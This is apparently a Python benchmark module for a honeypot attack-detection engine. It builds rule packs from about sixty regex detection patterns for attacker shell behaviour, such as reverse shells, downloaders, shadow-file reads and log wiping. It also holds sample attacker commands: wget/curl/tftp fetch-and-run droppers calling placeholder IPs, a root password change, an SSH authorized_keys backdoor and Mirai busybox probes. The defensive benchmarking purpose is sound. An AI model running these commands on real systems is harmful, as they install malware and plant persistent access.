"""Text rules for benchmarks: sixty as a rule author would write them, and as many more as wanted that nothing hits."""

from __future__ import annotations

import random
from pathlib import Path
from typing import TYPE_CHECKING

from decnet.attack import catalog
from decnet.ttp.store.compile import compile_pack

if TYPE_CHECKING:
    from collections.abc import Sequence

    from decnet.ttp.pack import Pack

_START = r"(?:^|[;&|(`\n])\s*(?:sudo\s+)?(?:/[\w/]*/)?"
"""What may stand before a command that counts as run."""

PATTERNS = (
    _START + r"(?:wget|curl|tftp|ftpget|fetch|aria2c|axel|lwp-download)\s+\S",
    _START + r"(?:scp|rsync|sftp|ftp)\s+\S+:\S",
    _START + r"(?:ba|da|z|k|a)?sh\s+-[ic]\b",
    _START + r"(?:nc|ncat|netcat|socat)\s[^\n;|]*-\w*[ec]\b",
    _START + r"(?:python|perl|ruby|php|node|lua)[\d.]*\s+-(?:c|e|r)\b",
    _START + r"(?:cat|less|more|head|tail|grep|awk|sed)\s[^\n;|]*/etc/passwd\b",
    _START + r"(?:cat|less|more|head|tail|grep|cp|dd)\s[^\n;|]*/etc/(?:g?shadow|master\.passwd)",
    _START + r"find\s[^\n;|]*-perm\s+[-/+]?(?:0?[246]000|u=s|g=s)",
    _START + r"(?:find\s+/|ls\s+-\w*R|locate\s|tree\s)",
    _START + r"(?:nmap|masscan|zmap|rustscan|unicornscan)\s",
    _START + r"(?:uname|lsb_release|hostnamectl|lscpu|nproc|free|df|dmidecode|lspci|arch)\b",
    r"/proc/(?:cpuinfo|version|meminfo|mounts|partitions)\b|/etc/(?:issue|os-release|[a-z]+-release)\b",
    _START + r"(?:whoami|id|w|who|users|last|lastlog|logname|finger)\b",
    _START + r"(?:ifconfig|ip\s+(?:a|addr|r|route|link|neigh)|route|arp|hostname\s+-I)\b",
    _START + r"(?:netstat|ss|lsof\s+-i)\b|/proc/net/(?:tcp|udp|arp|route)\b",
    _START + r"(?:ps|top|htop|pstree|pgrep|pidof)\b",
    _START + r"(?:ldapsearch|bloodhound|sharphound|rusthound|windapsearch)\b",
    _START + r"(?:smbclient\s+-L|enum4linux|nbtscan|rpcclient|smbmap)\b",
    _START + r"(?:useradd|adduser|newusers)\s|(?:>>|tee\s+-a)\s*/etc/passwd\b",
    _START + r"(?:usermod|gpasswd|groupadd|groupmod)\s",
    _START + r"(?:passwd|chpasswd)\b",
    _START + r"crontab\s+(?:-\s|/|\S+\.txt)|/etc/cron\.(?:d|daily|hourly|weekly|monthly)/|/var/spool/cron",
    r"(?i)\bconfig\s+set\s+(?:dir|dbfilename)\b",
    r"(?:>|tee|-O|cp\s+\S+)\s*/(?:var/www|srv/www|usr/share/nginx)/\S+\.(?:php|jsp|aspx?)",
    _START + r"history\s+-[cw]\b|\b(?:unset|export)\s+HIST\w+|HISTFILE=/dev/null|>\s*~?/?\S*\.(?:bash|zsh|ash)_history",
    _START + r"sudo\s+-(?:l|i|s)\b|(?:>>?|tee)\s*/etc/sudoers",
    r"/dev/(?:tcp|udp)/[^\s/]+/\d+",
    r"\|\s*(?:sudo\s+)?(?:/[\w/]*/)?(?:ba|da|z|a|k)?sh\b",
    r"\bbase64\s+(?:-d|-D|--decode)\b|\bxxd\s+-r\b|\bopenssl\s+(?:enc\s+)?-d\b",
    _START + r"chmod\s+(?:-\w+\s+)?(?:[ugoa]*\+\w*[xs]|[0-7]*[1357][0-7]*)\s",
    _START + r"chattr\s+(?:-\w+\s+)?[-+]\w*[ia]",
    r"\.ssh/authorized_keys\b|\bssh-(?:rsa|ed25519)\s+AAAA",
    _START + r"(?:iptables|ip6tables|nft|ufw|firewall-cmd)\s[^\n;|]*(?:-F|-X|-P|flush|disable|--panic)",
    _START + r"(?:setenforce\s+0|aa-teardown|apparmor_parser\s+-R)",
    _START + r"(?:systemctl|service|rc-service|update-rc\.d)\s[^\n;|]*(?:stop|disable|mask)\b",
    _START + r"(?:pkill|killall|kill\s+-(?:9|KILL)|xkill)\b",
    _START + r"rm\s+-\w*r\w*\s+(?:/\*?|/(?:var|etc|home|boot)\S*)(?:\s|$)",
    _START + r"dd\s[^\n;|]*of=/dev/(?:[shv]d[a-z]|nvme|mmcblk)",
    r"(?i)\bxmrig\b|stratum\+(?:tcp|ssl)://|\b(?:minerd|cpuminer|nanominer|t-rex)\b",
    _START + r"docker\s+(?:run|create)\s[^\n;|]*(?:--privileged|-v\s*/:|--pid[= ]host)",
    _START + r"(?:nsenter|unshare|chroot)\s|/sys/fs/cgroup/\S*release_agent",
    r"\.aws/credentials\b|\.kube/config\b|\.git-credentials\b|wp-config\.php\b|(?:^|[\s/])\.env\b",
    r"\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.(?:pem|ppk|p12|pfx)\b",
    r"/var/run/secrets/kubernetes\.io/serviceaccount\b|\bkubectl\s+get\s+secrets?\b",
    r"\bLD_PRELOAD=|/etc/ld\.so\.preload\b",
    r"(?:>>?|tee)\s*(?:-a\s+)?(?:~|/root|/home/\w+)/\.(?:bashrc|profile|bash_profile|zshrc)\b",
    r"/etc/(?:systemd/system|init\.d|rc\.local)\S*|\bsystemctl\s+enable\b",
    _START + r"(?:insmod|modprobe|rmmod|depmod)\s",
    _START + r"(?:tcpdump|tshark|dumpcap|ettercap)\b",
    _START + r"(?:shred|wipe|srm)\s|>\s*/var/log/\S+|/var/log/(?:wtmp|btmp|lastlog|auth\.log|secure)\b",
    _START + r"(?:tar|zip|7z|gzip|rar)\s[^\n;|]*(?:/etc|/home|/root|/var)",
    _START + r"curl\s[^\n;|]*(?:-T|-F|--upload-file|--data-binary\s+@|-d\s*@)",
    _START + r"(?:touch\s+-[acmrt]|timestomp)\b",
    _START + r"(?:mysqldump|pg_dump|mongodump|redis-cli|mysql\s+-u)\b",
    r"(?i)\b(?:drop\s+database|truncate\s+table|flushall|flushdb)\b",
    _START + r"(?:reboot|shutdown|halt|poweroff|init\s+[06])\b",
    _START + r"(?:apt|apt-get|yum|dnf|apk|opkg|pip3?|npm)\s+(?:-y\s+)?(?:install|add)\s",
    r"(?:/bin/)?busybox\s+[A-Z]{4,}|\b(?:MIRAI|OWARI|SORA|JOSHO|CORONA)\b",
    _START + r"(?:dpkg\s+-l|rpm\s+-qa|apk\s+info|snap\s+list)\b",
    _START + r"(?:env|printenv|set|locale|date|uptime|timedatectl)\b",
)
"""One pattern per rule: each names the tools of one behaviour, in command position where that matters."""

EXECS = (
    r"{program: [wget, curl], args: '[./:]', args_not: '(?:-T|-F|--upload-file|--data)'}",
    r"{program: [tftp, ftpget, scp, rsync, sftp], args: '\S'}",
    r"{program: [sh, bash, dash, ash], pipe_from: [wget, curl, base64]}",
    r"{program: [sh, bash, dash, ash], args_not: '.'}",
    r"{program: [nc, ncat, netcat], args: '-\w*[ec]\b'}",
    r"{program: [python, perl, ruby, php], args: '-[cer]\b'}",
    r"{args: '/etc/passwd\b'}",
    r"{args: '/etc/g?shadow\b'}",
    r"{program: find, args: '-perm\s+[-/+]?(?:0?[246]000|u=s|g=s)'}",
    r"{program: [nmap, masscan, zmap]}",
    r"{program: [uname, lscpu, nproc, free, df, lspci, hostnamectl, dmidecode]}",
    r"{args: '/proc/(?:cpuinfo|version|meminfo|mounts)\b'}",
    r"{program: [whoami, id, w, who, users, last]}",
    r"{program: [ifconfig, ip, route, arp]}",
    r"{program: [netstat, ss]}",
    r"{program: [ps, top, htop, pgrep]}",
    r"{program: [useradd, adduser]}",
    r"{program: [passwd, chpasswd]}",
    r"{program: crontab, args: '^(?:-|/|\S+\.txt)'}",
    r"{redirect_to: '/etc/cron|/var/spool/cron'}",
    r"{append_to: 'authorized_keys'}",
    r"{program: history, args: '-c'}",
    r"{assigns: '^HISTFILE='}",
    r"{program: chmod, args: '(?:\+x|\b[0-7]*7[0-7]*\b)'}",
    r"{program: chattr, args: '-\w*[ia]'}",
    r"{program: rm, args: '-\w*r\w*\s'}",
    r"{program: [pkill, killall]}",
    r"{program: busybox, wrapper: sudo}",
    r"{path: '^(?:\./|/tmp/|/dev/shm/)'}",
    r"{redirect_from: '^/dev/(?:tcp|udp)/'}",
)
"""What one command shows, as a rule author would ask for it."""

_EXEC_SHAPES = (
    "{program: WORD}",
    "{program: [WORD, OTHER], args: '--OTHER'}",
    "{program: [wget, curl, cat, chmod], args: 'WORD'}",
    "{args: '/opt/WORD/OTHER'}",
    "{redirect_to: '/etc/WORD'}",
    "{program: echo, args: 'WORD', pipe_into: [OTHER]}",
)

COMMANDS = (
    "uname -a",
    "uname -s -v -n -r -m",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "w",
    "whoami",
    "which ls",
    "ls -lh $(which ls)",
    "ls -la /var/run/gcc.pid",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
    "wget http://203.0.113.{n}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
    "curl -s -O http://203.0.113.{n}/x86_{n}; chmod +x x86_{n}; ./x86_{n} ssh.{n}",
    "echo 'root:{n}pw'|chpasswd|bash",
    "crontab -l",
    "top",
    "cat /etc/issue",
    "export PATH=/usr/local/sbin:/usr/local/bin:$PATH",
    "nproc",
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox MIRAI{n}",
    "cat /proc/mounts; /bin/busybox PTGDX{n}",
    "while read i; do echo $i; done < /proc/self/exe",
    "dd bs=52 count=1 if=.s || cat .s",
    "lspci | grep VGA | cut -f5- -d ' '",
    "df -h | head -n 2 | awk 'FNR == 2 {{print $2;}}'",
    "mkdir -p /dev/shm/.x{n} && cd /dev/shm/.x{n}",
    "exit",
    "ps aux | grep -v grep | grep kdevtmp{n}",
    "echo -e '\\x6F\\x6B{n}'",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    (
        'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA{n}DJk3lhr4KUhBGE7 key">>'
        ".ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"
    ),
    (
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.{n}/a.sh; curl -O "
        "http://203.0.113.{n}/a.sh; chmod 777 a.sh; sh a.sh; tftp 203.0.113.{n} -c get a.sh; chmod 777 a.sh; sh a.sh; "
        "tftp -r b.sh -g 203.0.113.{n}; chmod 777 b.sh; sh b.sh; rm -rf *"
    ),
)
"""Lines as attackers type them; ``{n}`` is a number that differs from event to event."""

_RULE = """\
rule_id: R{number:06}
rule_version: 1
name: bench_{number}
maturity: sandbox
attack_release: enterprise-19.2
description: A rule for benchmarks.
applies_to: [command]
match: {match}
emits: [{{tactic: TA0007, technique_id: T1082, confidence: 0.7}}]
"""
_SHAPES = (
    r"\b(?:{word}|{other})\s+-\w*{letter}",
    r"(?i)\b{word}\b",
    r"/(?:usr|opt)/{word}\.(?:sh|py|so)\b",
    r"(?:^|[;&|(`\n])\s*(?:sudo\s+)?(?:/[\w/]*/)?(?:{word}|{other})\s+\S",
    r"\b{word}\s+[^|;]*--{letter}\w+",
    r"{word}=\d|\.{other}rc\b",
)
_SYLLABLES = ("qu", "zor", "vex", "jin", "wob", "kla", "fyd", "mub", "tro", "pez", "gax", "hov")


def patterns(count: int, seed: int = 11) -> tuple[str, ...]:
    """The first sixty patterns are :data:`PATTERNS`; the others have the same shapes and words that no command has."""
    rng = random.Random(seed)
    grown: dict[str, None] = dict.fromkeys(PATTERNS[:count])
    while len(grown) < count:
        word, other = ("".join(rng.choices(_SYLLABLES, k=rng.randrange(3, 5))) for _ in range(2))
        grown[rng.choice(_SHAPES).format(word=word, other=other, letter=rng.choice("abcdefg"))] = None
    return tuple(grown)


def pack(count: int) -> Pack:
    """A pack of that many rules, one pattern each."""
    return _pack([f"{{pattern: {_quoted(pattern)}}}" for pattern in patterns(count)])


def exec_pack(count: int, seed: int = 13) -> Pack:
    """A pack of that many rules, one ``exec`` each; from the thirty-first on, nothing hits them."""
    rng = random.Random(seed)
    grown: dict[str, None] = dict.fromkeys(EXECS[:count])
    while len(grown) < count:
        word, other = ("".join(rng.choices(_SYLLABLES, k=rng.randrange(3, 5))) for _ in range(2))
        grown[rng.choice(_EXEC_SHAPES).replace("WORD", word).replace("OTHER", other)] = None
    return _pack([f"{{exec: {exec_}}}" for exec_ in grown])


def _pack(matches: Sequence[str]) -> Pack:
    files = [
        (Path(f"R{number:06}.yaml"), _RULE.format(number=number, match=match)) for number, match in enumerate(matches)
    ]
    return compile_pack(files, catalog.load)


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def texts(count: int, seed: int = 5) -> list[str]:
    """Attacker lines, no two alike where a number is in them."""
    rng = random.Random(seed)
    return [rng.choice(COMMANDS).replace("{n}", str(rng.randrange(1_000_000))) for _ in range(count)]
